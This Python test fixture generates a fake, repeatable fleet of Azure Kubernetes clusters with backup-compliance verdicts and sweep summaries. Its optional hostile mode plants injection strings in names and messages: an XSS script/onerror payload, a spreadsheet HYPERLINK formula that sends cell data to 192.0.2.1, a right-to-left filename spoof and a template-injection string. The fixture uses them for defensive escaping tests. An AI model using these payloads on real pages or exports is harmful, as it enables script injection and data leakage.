"""A fleet as a sweep would have found it, the same at every run: realistic shares, and a few hostile names."""

import hashlib
import random
from collections import defaultdict
from collections.abc import Iterable, Mapping, Sequence
from dataclasses import dataclass, replace
from datetime import UTC, datetime, timedelta

from shared.domain.compliance import (
    FactValue,
    Finding,
    JudgedCluster,
    Repairs,
    Restorable,
    SweepSummary,
    Tally,
    Verdict,
    VerdictChange,
    VerdictStatus,
)
from shared.domain.fleet import Source
from shared.plan import roles
from shared.plan.compliance.catalogue import CONTROLS
from shared.plan.compliance.control import Control

NOW = datetime(2026, 11, 21, 9, 30, tzinfo=UTC)
LAST_SWEEP = NOW - timedelta(hours=3, minutes=12)
TEAMS = ("checkout", "payments", "search", "identity", "data-platform", "mobile", "logistics", "crm", "ml", "web", "")
REGIONS = ("westeurope", "northeurope", "eastus2", "swedencentral", "southeastasia")
PROFILES = ("standard", "critical", "sandbox")
MODES = {"standard": "enforce", "critical": "enforce", "sandbox": "audit"}

SCRIPT = "<script>document.title='owned'</script><img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1,"open")'
REVERSED = "team-\u202egnp.exe\u2066\u200b"
LONG = "w" * 250
EMOJI = "🦄 platform 👩‍🚀 équipe"
QUOTES = """x" onmouseover="alert(1)' autofocus {{ 7*7 }} ]]> </title> &amp; javascript:alert(1)"""
HOSTILE = (SCRIPT, FORMULA, REVERSED, LONG, EMOJI, QUOTES)

_KIND = "Microsoft.ContainerService/managedClusters"
_VAULT = "/subscriptions/{}/resourceGroups/rg-backup/providers/Microsoft.DataProtection/backupVaults/bv-default"
_MESSAGES = {
    "NonCompliant": "The newest recovery point is 3 days and 4 hours old; the profile promises one every 36 hours.",
    "Unknown": "Resource Graph did not show the vault; the app's identity may lack Reader on its subscription.",
    "Exempt": "Stateless and about to be retired; agreed with the team.",
}


@dataclass(frozen=True, slots=True)
class Fleet:
    summary: SweepSummary
    clusters: tuple[JudgedCluster, ...]
    summaries: tuple[SweepSummary, ...]
    """Newest first; the first one is `summary`."""
    changes: tuple[VerdictChange, ...]


def fleet_of(count: int, *, sweeps: int = 45, seed: int = 7, hostile: bool = False, findings: int = 5) -> Fleet:
    chance = random.Random(seed)  # noqa: S311 - chance that a seed repeats
    subscriptions = {_guid(f"subscription {n}"): f"corp-{n:03d}-prod" for n in range(max(3, count // 80))}
    clusters = [_cluster(chance, number, tuple(subscriptions)) for number in range(count)]
    if hostile:
        names = list(subscriptions)
        subscriptions[names[0]], subscriptions[names[1]] = SCRIPT, REVERSED
        clusters[: len(HOSTILE)] = [_hostile(one, text) for one, text in zip(clusters, HOSTILE, strict=False)]
    ordered = tuple(sorted(clusters, key=lambda one: (one.name.casefold(), one.cluster_id)))
    summary = _summary(ordered, subscriptions, LAST_SWEEP, findings, hostile)
    earlier = [_earlier(summary, back, chance) for back in range(1, sweeps)]
    return Fleet(summary, ordered, (summary, *earlier), _changes(ordered, summary))


def _cluster(chance: random.Random, number: int, subscriptions: Sequence[str]) -> JudgedCluster:
    team = chance.choices(TEAMS, weights=(9, 8, 7, 6, 12, 5, 8, 4, 3, 6, 2))[0]
    profile = chance.choices(PROFILES, weights=(6, 3, 1))[0]
    region = chance.choices(REGIONS, weights=(6, 3, 3, 2, 1))[0]
    subscription = chance.choice(subscriptions)
    name = f"aks-{team or 'shared'}-{region[:4]}-{number:05d}"
    group = f"rg-{team or 'shared'}-{chance.randrange(20):02d}"
    kind = chance.choices(("well", "failing", "unread", "exempt"), weights=(88, 7, 2, 3))[0]
    verdicts = tuple(_verdict(chance, control, kind) for control in CONTROLS)
    arm_id = f"/subscriptions/{subscription}/resourceGroups/{group}/providers/{_KIND}/{name}"
    remaining = (
        (f"GrantRole:3f1c|{roles.CONTRIBUTOR}|/subscriptions/s/resourceGroups/snapshots", "CreateBackupInstance")
        if kind == "failing" and number % 2
        else ()
    )
    return JudgedCluster(
        cluster_id=arm_id,
        name=name,
        subscription_id=subscription,
        resource_group=group,
        location=region,
        team=team,
        profile=profile,
        mode=MODES[profile],
        verdicts=verdicts,
        facts=_facts(chance, subscription, name),
        score=_score(verdicts),
        restorable=_restorable(verdicts, kind),
        remaining=remaining,
        judged_at=LAST_SWEEP,
    )


def _verdict(chance: random.Random, control: Control, kind: str) -> Verdict:
    status: VerdictStatus = "Compliant"
    if kind == "exempt":
        status = "Exempt"
    elif kind == "failing" and chance.random() < 0.2:
        status = "NonCompliant"
    elif (kind == "unread" and chance.random() < 0.3) or (kind == "well" and chance.random() < 0.002):
        status = "Unknown" if kind == "unread" else "NonCompliant"
    since = LAST_SWEEP - timedelta(days=chance.randrange(60))
    if status == "Compliant":
        return Verdict(control.id, status, control.severity, since=since)
    reason = {"NonCompliant": "RecoveryPointTooOld", "Unknown": "Unobserved", "Exempt": "Exempt"}[status]
    expires = NOW + timedelta(days=60) if status == "Exempt" else None
    remedy = control.remedy if status != "Exempt" else ""
    return Verdict(control.id, status, control.severity, reason, _MESSAGES[status], remedy, since, expires)


_ESSENTIAL = frozenset(control.id for control in CONTROLS if control.essential)


def _restorable(verdicts: Iterable[Verdict], kind: str) -> Restorable:
    if kind == "exempt":
        return "Exempt"
    statuses = {verdict.status for verdict in verdicts if verdict.control in _ESSENTIAL}
    return "No" if "NonCompliant" in statuses else "Unknown" if "Unknown" in statuses else "Yes"


def _score(verdicts: Sequence[Verdict]) -> float:
    counted = [verdict for verdict in verdicts if verdict.status != "Exempt"]
    return 100 * sum(v.status == "Compliant" for v in counted) / len(counted) if counted else 100.0


def _facts(chance: random.Random, subscription: str, name: str) -> dict[str, FactValue]:
    vault = _VAULT.format(subscription)
    return {
        "profile": "standard",
        "provisioning_state": "Succeeded",
        "power_state": "Running",
        "kubernetes_version": chance.choice(("1.31.4", "1.32.1", "1.33.0")),
        "extension_state": "Succeeded",
        "extension_version": "0.0.2201.14",
        "memory_limit": chance.choice(("", "2560Mi", "4400Mi")),
        "instance": f"{vault}/backupInstances/{name}",
        "protection_state": "ProtectionConfigured",
        "latest_recovery_point": (LAST_SWEEP - timedelta(hours=chance.randrange(1, 90))).isoformat(),
        "vault": vault,
        "soft_delete": "AlwaysOn",
        "redundancy": "GeoRedundant",
        "operational_days": 7,
        "vault_days": None,
        "missing_roles": (),
        "last_job_status": "Completed",
        "last_restore_at": None,
        "bindings": ("backup-guard",),
        "bindings_read_at": (LAST_SWEEP - timedelta(hours=7)).isoformat(),
        "unread": (),
    }


def _hostile(cluster: JudgedCluster, text: str) -> JudgedCluster:
    return replace(
        cluster,
        name=text,
        team=text,
        resource_group=text,
        facts=cluster.facts | {"protection_error": text, text: text},  # type: ignore[operator]
        verdicts=tuple(replace(verdict, message=text, reason="Odd") for verdict in cluster.verdicts[:3])
        + cluster.verdicts[3:],
        remaining=(text,),
    )


def tally_of(clusters: Iterable[JudgedCluster]) -> Tally:
    """Counted here by itself, so that a page is checked against something else than the app's own sums."""
    found = list(clusters)
    words = [cluster.restorable for cluster in found]
    scores = [cluster.score for cluster in found if cluster.restorable != "Exempt"]
    mean = sum(scores) / len(scores) if scores else 0.0
    return Tally(len(found), words.count("Yes"), words.count("No"), words.count("Unknown"), words.count("Exempt"), mean)


def _summary(
    clusters: Sequence[JudgedCluster], names: Mapping[str, str], ended: datetime, findings: int, hostile: bool
) -> SweepSummary:
    def by(field: str) -> dict[str, Tally]:
        groups = defaultdict(list)
        for cluster in clusters:
            groups[getattr(cluster, field)].append(cluster)
        return {key: tally_of(group) for key, group in groups.items()}

    controls: dict[str, dict[VerdictStatus, int]] = defaultdict(lambda: defaultdict(int))
    for cluster in clusters:
        for verdict in cluster.verdicts:
            controls[verdict.control][verdict.status] += 1
    return SweepSummary(
        sweep_id=f"{ended:%Y%m%dT%H%M%SZ}-abcd",
        started_at=ended - timedelta(seconds=48),
        ended_at=ended,
        configuration_revision=12,
        overall=tally_of(clusters),
        by_team=by("team"),
        by_subscription=by("subscription_id"),
        by_location=by("location"),
        by_profile=by("profile"),
        by_control=controls,
        subscription_names=names,
        findings=_findings(findings, hostile),
        sources=_sources(ended),
        calls=118,
        changes=31,
        repairs=Repairs(drifted=14, asked=14),
    )


def _findings(count: int, hostile: bool) -> tuple[Finding, ...]:
    return tuple(
        Finding(
            "orphaned-instance",
            f"{_VAULT.format(_guid(f'orphan {n}'))}/backupInstances/{_gone(n, hostile)}",
            "NonCompliant",
            "Warning",
            "ClusterGone",
            "The cluster it protects is not there any more; its recovery points are still charged for.",
            "Keep it until the recovery points are not needed, then delete the backup instance.",
            LAST_SWEEP - timedelta(days=4 + n),
        )
        for n in range(count)
    )


def _gone(number: int, hostile: bool) -> str:
    return SCRIPT if hostile and number == 0 else f"aks-gone-{number}"


def _sources(at: datetime) -> tuple[Source, ...]:
    names = ("clusters", "extensions", "instances", "policies", "vaults", "grants", "jobs")
    answered = [
        Source(f"{name}", at - timedelta(seconds=40 - place), tuple(_guid(f"{name} {page}") for page in range(2)), 1000)
        for place, name in enumerate(names)
    ]
    failed = Source("instances", at, (_guid("failed"),), 0, "Forbidden: the caller may not read corp-007-prod")
    return (*answered, failed)


def _earlier(summary: SweepSummary, back: int, chance: random.Random) -> SweepSummary:
    ended = summary.ended_at - timedelta(days=back)
    tally = summary.overall
    lost = min(tally.yes, int(tally.clusters * back * 0.004 + chance.randrange(max(2, tally.clusters // 200))))
    earlier = replace(
        tally, yes=tally.yes - lost, no=tally.no + lost, score=round(tally.score - lost / tally.clusters * 30, 3)
    )
    return replace(
        summary,
        sweep_id=f"{ended:%Y%m%dT%H%M%SZ}-abcd",
        started_at=ended - timedelta(seconds=45),
        ended_at=ended,
        overall=earlier,
    )


def _changes(clusters: Sequence[JudgedCluster], summary: SweepSummary) -> tuple[VerdictChange, ...]:
    return tuple(
        VerdictChange(
            summary.sweep_id,
            summary.ended_at,
            c.cluster_id,
            c.name,
            c.team,
            v.control,
            "Compliant",
            v.status,
            v.reason,
            v.message,
        )
        for c in clusters
        for v in c.verdicts
        if v.status == "NonCompliant"
    )[:200]


def _guid(text: str) -> str:
    digest = hashlib.sha256(text.encode()).hexdigest()
    return f"{digest[:8]}-{digest[8:12]}-{digest[12:16]}-{digest[16:20]}-{digest[20:32]}"
